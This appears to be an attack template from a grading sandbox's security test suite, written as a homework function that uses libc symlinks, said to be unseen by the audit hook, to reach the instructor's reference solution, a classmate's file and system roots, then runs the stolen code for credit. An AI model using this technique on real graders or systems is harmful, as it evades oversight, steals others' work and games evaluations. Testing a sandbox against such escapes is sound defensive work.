"""Attack `symlink_escape`: the hw2_affine reference with ComputeGradients replaced by the attack.

Symbolic links in the working folder (made with libc symlink, which the audit
hook does not see) to the course's reference, the course folder, /proc/1/root,
the classmate's file and /; reads through each, and leaves them behind for
whoever cleans the folder up (rmtree must not follow them into the course).

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def use_reference(source, L, x, z):
    """Run the stolen file's ComputeGradients: the points the attack wants."""
    namespace = {}
    exec(compile(source, "stolen", "exec"), namespace)
    return namespace["ComputeGradients"](L, x, z)

TARGETS = {
    "ref": "@COURSE@/reference/hw2_affine/solution.py",
    "course": "@COURSE@",
    "checkout": "@CHECKOUT@",
    "init_root": "/proc/1/root",
    "self_root": "/proc/self/root",
    "mate": "@FOLDER@/homework2_affine_classmate.py",
    "slash": "/",
    "up": "..",
}
THROUGH = ["ref", "course/reference/hw2_affine/solution.py", "checkout/reference/hw2_affine/solution.py",
           "init_root@COURSE@/reference/hw2_affine/solution.py", "mate",
           "self_root@COURSE@/reference/hw2_affine/solution.py", "slash@COURSE@/reference/hw2_affine/solution.py",
           "up/../@COURSE@/reference/hw2_affine/solution.py"]


def ComputeGradients(L, x, z):
    for name, target in TARGETS.items():
        if not os.path.lexists(name):
            result = libc.symlink(os.fsencode(target), os.fsencode(name))
            say("symlink", name, "->", target, "ok" if result == 0 else errno_text())
    for path in THROUGH:
        source = libc_read(path)
        say("read through", path, "->", "read" if source else errno_text())
        if source:
            return use_reference(source, L, x, z)
    return wrong_answer(L)
